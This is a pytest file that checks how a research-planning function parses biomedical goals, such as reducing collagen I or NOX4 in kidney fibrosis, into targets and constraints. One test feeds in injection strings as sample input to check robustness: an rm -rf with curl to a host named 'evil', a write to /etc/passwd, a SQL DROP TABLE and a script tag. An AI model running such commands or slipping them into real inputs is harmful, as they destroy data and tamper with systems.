"""Goals, read without a model: what should change, which way, where, without what, and by what."""

from pathlib import Path
from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from coscientist.agents.planning.aims import ENOUGH_READOUT
from coscientist.agents.planning.plan import read_goal
from coscientist.domain.concept import Concept, ConceptKind
from coscientist.domain.errors import GoalError
from coscientist.domain.goal import Direction, Plan
from coscientist.evidence.graph import EvidenceGraph
from tests.support.small_world import ABOUT, SmallWorld, world_of


@pytest.fixture(scope="module")
def graph(small_world: SmallWorld) -> EvidenceGraph:
    return small_world.graph()


def wanted(plan: Plan) -> list[tuple[str, Direction]]:
    return [(target.concepts[0], target.direction) for target in plan.targets]


@pytest.mark.parametrize(
    ("goal", "targets"),
    [
        ("Find interventions that reduce collagen I in renal fibrosis", [("col1", Direction.REDUCE)]),
        ("Can we lower type I collagen?", [("col1", Direction.REDUCE)]),
        ("reduce collagen I and fibronectin", [("col1", Direction.REDUCE), ("fn1", Direction.REDUCE)]),
        ("reduce collagen I but increase AMPK", [("col1", Direction.REDUCE), ("ampk", Direction.INCREASE)]),
        ("Enhance AMPK activity", [("ampk", Direction.INCREASE)]),
        ("restore AMPK signalling", [("ampk", Direction.RESTORE)]),
        ("Which drugs affect NOX4?", [("nox4", Direction.MODULATE)]),
        ("Why does NOX4 rise?", [("nox4", Direction.EXPLAIN)]),
        ("kidney fibrosis", [("fibrosis", Direction.REDUCE)]),
        ("NOX4", [("nox4", Direction.MODULATE)]),
        ("Lower phosphorylation of SMAD3", [("psmad3", Direction.REDUCE)]),
        ("lower SMAD3 hyperphosphorylation", [("psmad3", Direction.REDUCE)]),
        ("reduce p-SMAD3", [("psmad3", Direction.REDUCE)]),
        ("REDUCE TGFβ1".replace("β", "b"), [("tgfb1", Direction.REDUCE)]),
        ("reduce TGF-beta1", [("tgfb1", Direction.REDUCE)]),
        ("block the degradation of collagen I", [("col1", Direction.INCREASE)]),
        ("promote collagen I clearance", [("col1", Direction.REDUCE)]),
        ("slow AMPK death", [("ampk", Direction.INCREASE)]),
        ("prevent the death of AMPK", [("ampk", Direction.INCREASE)]),
        ("NOX4 is overactive in our cells. What could bring it down?", [("nox4", Direction.REDUCE)]),
        ("Protect against NOX4-induced kidney fibrosis", [("fibrosis", Direction.REDUCE)]),
        ("reduce collagen I and kidney fibrosis", [("col1", Direction.REDUCE), ("fibrosis", Direction.REDUCE)]),
        ("reduce collagen I to treat kidney fibrosis", [("col1", Direction.REDUCE)]),
        ("reduce phosphorylated SMAD3", [("psmad3", Direction.REDUCE)]),
        ("Which kinases worsen kidney fibrosis?", [("fibrosis", Direction.INCREASE)]),
        ("What can be done against kidney fibrosis?", [("fibrosis", Direction.REDUCE)]),
        ("stabilise AMPK", [("ampk", Direction.RESTORE)]),
        ("reduce collagen I after kidney fibrosis", [("col1", Direction.REDUCE)]),
        ("How can collagen I be lowered?", [("col1", Direction.REDUCE)]),
        ("NOX4 inhibitors against kidney fibrosis", [("fibrosis", Direction.REDUCE)]),
        ("Should we inhibit or activate AMPK?", [("ampk", Direction.MODULATE)]),
        ("reduce collagen I at fibronectin", [("col1", Direction.REDUCE)]),
        ("prevent the loss of AMPK", [("ampk", Direction.INCREASE)]),
        ("improve AMPK deficits", [("ampk", Direction.INCREASE)]),
        ("Find inhibitors of NOX4 with few side effects", [("nox4", Direction.REDUCE)]),
        ("Find NOX4 blockers", [("nox4", Direction.REDUCE)]),
        ("Find a diet with high AMPK", [("ampk", Direction.INCREASE)]),
        ("Find cells with low collagen I", [("col1", Direction.REDUCE)]),
        ("positive allosteric modulators of AMPK", [("ampk", Direction.INCREASE)]),
        ("an inverse agonist of NOX4", [("nox4", Direction.REDUCE)]),
        ("Repurpose drugs against collagen I", [("col1", Direction.REDUCE)]),
        ("Which kinases phosphorylate SMAD3?", [("psmad3", Direction.INCREASE)]),
        ("Which phosphatases dephosphorylate SMAD3?", [("psmad3", Direction.REDUCE)]),
        ("Reduce collagen I to treat renal fibrosis", [("col1", Direction.REDUCE)]),
        ("Protect against SPQR-induced AMPK loss", [("ampk", Direction.INCREASE)]),
        ("lower p-SMAD3", [("psmad3", Direction.REDUCE)]),
        ("anti-NOX4 agents", [("nox4", Direction.REDUCE)]),
    ],
)
def test_a_goal_says_what_should_change_and_which_way(
    graph: EvidenceGraph, goal: str, targets: list[tuple[str, Direction]]
) -> None:
    assert wanted(read_goal(goal, graph, ABOUT)) == targets


def test_a_disease_beside_a_molecular_target_is_the_setting(graph: EvidenceGraph) -> None:
    for goal in ("reduce collagen I in renal fibrosis", "reduce collagen I for kidney fibrosis"):
        plan = read_goal(goal, graph, ABOUT)
        assert wanted(plan) == [("col1", Direction.REDUCE)]
        assert [target.concepts[0] for target in plan.context] == ["fibrosis"]


def test_what_is_to_be_left_out_is_left_out_and_no_target(graph: EvidenceGraph) -> None:
    plan = read_goal("Increase AMPK without metformin", graph, ABOUT)
    assert plan.excluded_concepts == ("metformin",)
    assert plan.constraints == ("not metformin",)
    assert wanted(plan) == [("ampk", Direction.INCREASE)]


def test_what_a_goal_names_as_its_means_is_the_route_and_no_target(graph: EvidenceGraph) -> None:
    plan = read_goal("Reduce collagen I by activating AMPK", graph, ABOUT)
    assert wanted(plan) == [("col1", Direction.REDUCE)]
    assert plan.through == ("ampk",)
    assert plan.constraints == ("through ampk",)


@pytest.mark.parametrize(
    ("goal", "through"),
    [
        ("Reduce collagen I by way of AMPK", "ampk"),
        ("Activate AMPK to reduce collagen I", "ampk"),
        ("Find AMPK activators that reduce collagen I", "ampk"),
        ("Reduce collagen I with NOX4 inhibitors", "nox4"),
        ("Reduce collagen I using metformin", "metformin"),
        ("Reduce NOX4-mediated collagen I", "nox4"),
        ("Does metformin lower collagen I?", "metformin"),
        ("Propose mechanisms by which NOX4 loss lowers collagen I", "nox4"),
        ("What is the link between NOX4 and collagen I?", "nox4"),
        ("Explain why metformin lowers collagen I in the kidney", "metformin"),
    ],
)
def test_whatever_is_to_bring_the_change_about_is_the_route(graph: EvidenceGraph, goal: str, through: str) -> None:
    plan = read_goal(goal, graph, ABOUT)
    assert plan.targets[0].concepts[0] == "col1"
    assert plan.through == (through,)


def test_new_uses_of_a_compound_are_asked_of_the_disease(graph: EvidenceGraph) -> None:
    plan = read_goal("Find new uses for metformin in renal fibrosis", graph, ABOUT)
    assert wanted(plan) == [("fibrosis", Direction.REDUCE)]
    assert plan.through == ("metformin",)


def test_what_is_linked_with_something_is_explained(graph: EvidenceGraph) -> None:
    plan = read_goal("What links renal fibrosis with NOX4?", graph, ABOUT)
    assert wanted(plan) == [("nox4", Direction.EXPLAIN)]
    assert [target.concepts[0] for target in plan.context] == ["fibrosis"]


def test_a_question_about_a_compound_and_a_disease_is_about_the_compound(graph: EvidenceGraph) -> None:
    assert read_goal("How does metformin influence renal fibrosis?", graph, ABOUT).through == ("metformin",)


@pytest.mark.parametrize("goal", ["Lower collagen I induced by NOX4", "Lower NOX4-induced collagen I"])
def test_what_brings_a_trouble_on_is_its_setting(graph: EvidenceGraph, goal: str) -> None:
    plan = read_goal(goal, graph, ABOUT)
    assert [target.concepts[0] for target in plan.targets] == ["col1"]
    assert [target.concepts[0] for target in plan.context] == ["nox4"]
    assert not plan.through


@pytest.mark.parametrize(
    ("goal", "kinds"),
    [
        ("Find drugs that lower NOX4", ("compound",)),
        ("Which kinases lower NOX4?", ("protein",)),
        ("Find genes that lower NOX4", ("protein", "gene", "rna")),
        ("Find treatments that lower NOX4", ("compound", "protein", "gene", "rna")),
        ("Which ion channels lower NOX4?", ("protein",)),
        ("Which genes, when deleted, lower NOX4?", ("protein", "gene", "rna")),
        ("Find targets whose inhibition lowers NOX4", ("protein", "gene", "rna")),
        ("Discover a novel therapeutic target to lower NOX4", ("protein", "gene", "rna")),
        ("Which drug targets lower NOX4?", ("protein", "gene", "rna")),
        ("Find compounds that target NOX4", ("compound",)),
        ("Lower NOX4 enzyme activity", ("compound", "protein", "gene", "rna")),
        ("Find kinase inhibitors that lower NOX4", ("compound",)),
    ],
)
def test_the_kind_of_intervention_is_taken_from_the_words(
    graph: EvidenceGraph, goal: str, kinds: tuple[str, ...]
) -> None:
    assert set(kinds) <= set(read_goal(goal, graph, ABOUT).intervention_kinds)
    if len(kinds) < 4:
        assert set(read_goal(goal, graph, ABOUT).intervention_kinds) == set(kinds)


@pytest.mark.parametrize(
    ("goal", "together"),
    [
        ("Find drug combinations that lower NOX4", True),
        ("Which drugs lower NOX4 synergistically?", True),
        ("Combine metformin with another drug to lower collagen I", True),
        ("Find single drugs or combinations that lower NOX4", False),
        ("Find drugs that lower NOX4", False),
    ],
)
def test_a_goal_may_ask_for_two_things_together(graph: EvidenceGraph, goal: str, together: bool) -> None:
    assert read_goal(goal, graph, ABOUT).together is together


def test_what_an_intervention_has_to_reach_is_a_condition_and_no_setting(graph: EvidenceGraph) -> None:
    barrier = Concept(id="bbb", name="blood-brain barrier", kind=ConceptKind.OTHER)
    wider = EvidenceGraph([*graph.concepts.values(), barrier], graph.claims.values())
    for goal in (
        "Find drugs that cross the blood-brain barrier and lower NOX4",
        "brain-penetrant inhibitors of NOX4",
        "inhibitors of NOX4 that enter the brain",
    ):
        plan = read_goal(goal, wider, ABOUT)
        assert wanted(plan) == [("nox4", Direction.REDUCE)]
        assert not plan.context
        assert plan.constraints in (("has to reach blood brain barrier",), ("has to reach brain",))


def test_channels_at_large_are_what_is_looked_for_and_not_where(graph: EvidenceGraph) -> None:
    channels = Concept(id="channels", name="ion channels", kind=ConceptKind.OTHER)
    wider = EvidenceGraph([*graph.concepts.values(), channels], graph.claims.values())
    plan = read_goal("Which ion channels lower NOX4?", wider, ABOUT)
    assert (plan.means, plan.context) == ("protein (channel)", ())


def test_the_reading_says_how_each_word_was_taken(graph: EvidenceGraph) -> None:
    reading = read_goal("Reduce collagen I in the bluish kidney of mice", graph, ABOUT).reading
    assert reading.understood == {"collagen i": "collagen I"}
    assert reading.not_understood == ("bluish", "kidney")


def test_a_word_that_means_two_things_is_said_to(graph: EvidenceGraph) -> None:
    things = [*graph.concepts.values(), Concept(id="col1b", name="Collagen I", kind=ConceptKind.GENE)]
    plan = read_goal("reduce collagen I", EvidenceGraph(things, graph.claims.values()), ABOUT)
    assert set(plan.targets[0].concepts) == {"col1", "col1b"}


@pytest.mark.parametrize(
    "goal",
    [
        "<script>alert(1)</script> reduce collagen I",
        "reduce collagen I; rm -rf / && $(curl evil)",
        "reduce `collagen I` | tee /etc/passwd",
        "' OR 1=1; DROP TABLE claim; -- reduce collagen I",
        "{{7*7}} reduce collagen I {% raw %}",
        "reduce collagen I \u202e\u0000\x1b[31m",
    ],
)
def test_markup_and_commands_in_a_goal_are_words_like_any_other(graph: EvidenceGraph, goal: str) -> None:
    plan = read_goal(goal, graph, ABOUT)
    assert wanted(plan) == [("col1", Direction.REDUCE)]
    assert plan.goal == " ".join(goal.split())


PIECES = (
    "reduce increase collagen I NOX4 AMPK in by without not and of the , . ; ? renal fibrosis degradation activity why "
    "level phosphorylation SMAD3 blorp"
).split()


@settings(max_examples=150, deadline=None)
@given(st.one_of(st.text(max_size=200), st.lists(st.sampled_from(PIECES), max_size=14).map(" ".join)))
def test_any_text_gives_a_plan_or_a_reason(small_world: SmallWorld, goal: str) -> None:
    try:
        plan = read_goal(goal, _graph(small_world), ABOUT)
    except GoalError:
        return
    assert plan.targets
    assert all(target.concepts for target in (*plan.targets, *plan.context))


def _graph(world: SmallWorld, kept: dict[str, EvidenceGraph] = {}) -> EvidenceGraph:  # noqa: B006 - kept on purpose
    return kept.setdefault(str(world.corpus), world.graph())


def test_a_goal_that_names_a_cancer_asks_for_what_is_read_out_of_its_cells(graph: EvidenceGraph) -> None:
    aml = Concept(id="aml", name="acute myeloid leukaemia", kind=ConceptKind.DISEASE, synonyms=("AML",))
    dying = Concept(id="apoptosis", name="apoptosis", kind=ConceptKind.PROCESS)
    growing = Concept(id="growing", name="cell proliferation", kind=ConceptKind.PROCESS)
    (claim,) = [item for item in graph.claims.values() if item.object == "col1" and item.subject == "losartan"][:1]
    claims = [claim.model_copy(update={"id": "c-aml", "object": "apoptosis"})]
    leukaemia = EvidenceGraph([*graph.concepts.values(), aml, dying, growing], [*graph.claims.values(), *claims])
    plan = read_goal("Propose drugs for acute myeloid leukaemia", leukaemia, ABOUT)
    assert wanted(plan) == [("apoptosis", Direction.INCREASE)]  # nothing is reported to act on the other two
    assert [target.concepts for target in plan.context] == [("aml",)]
    assert plan.reading.at_the_bench == {"acute myeloid leukemia": ("apoptosis",)}


@pytest.mark.parametrize(("acting", "targets"), [(ENOUGH_READOUT - 1, {"pd", "agg"}), (ENOUGH_READOUT, {"agg"})])
def test_a_disease_is_no_target_itself_where_enough_is_known_of_its_lesion(
    tmp_path: Path, acting: int, targets: set[str]
) -> None:
    concepts = [
        {"id": "pd", "name": "Parkinson's disease", "kind": "disease"},
        {"id": "agg", "name": "α-synuclein aggregates", "kind": "other"},
    ]
    claims = [{"subject": f"KIN{number}", "predicate": "increases", "object": "agg"} for number in range(acting)]
    world = world_of(
        tmp_path, {"subject": "KIN0", "predicate": "increases", "object": "pd"}, *claims, concepts=concepts
    )
    plan = read_goal("Find drugs for Parkinson's disease", world.graph(), ABOUT)
    assert {target.concepts[0] for target in plan.targets} == targets
    assert plan.reading.at_the_bench == {"parkinson disease": ("α-synuclein aggregation",)}


def test_a_disease_is_the_setting_where_its_lesion_is_named(tmp_path: Path) -> None:
    concepts: list[dict[str, Any]] = [
        {"id": "als", "name": "amyotrophic lateral sclerosis", "kind": "disease", "synonyms": ["ALS"]},
        {"id": "agg", "name": "TDP-43 aggregates", "kind": "other"},
    ]
    claims = [{"subject": "KIN1", "predicate": "increases", "object": end} for end in ("agg", "als")]
    world = world_of(tmp_path, *claims, concepts=concepts)
    plan = read_goal("Suggest therapies for ALS targeting TDP-43 aggregation", world.graph(), ABOUT)
    assert [target.concepts for target in plan.targets] == [("agg",)]
    assert [target.concepts for target in plan.context] == [("als",)]


@pytest.mark.parametrize("goal", ["Lower the secretion of collagen I", "Lower collagen I secretion"])
def test_what_is_meant_of_a_thing_is_said_where_the_corpora_do_not_tell_it_apart(
    graph: EvidenceGraph, goal: str
) -> None:
    plan = read_goal(goal, graph, ABOUT)
    assert wanted(plan) == [("col1", Direction.REDUCE)]
    assert plan.reading.taken_for == {"collagen i secretion": "collagen i"}


def test_what_leaves_a_thing_the_same_is_not_said(graph: EvidenceGraph) -> None:
    assert not read_goal("Lower collagen I expression", graph, ABOUT).reading.taken_for


def test_of_two_things_either_of_which_would_do_the_one_that_is_known_is_pursued(graph: EvidenceGraph) -> None:
    plan = read_goal("Lower collagen I or AMPK splicing", graph, ABOUT)
    assert wanted(plan) == [("col1", Direction.REDUCE)]
    assert plan.reading.not_understood == ("splicing",)
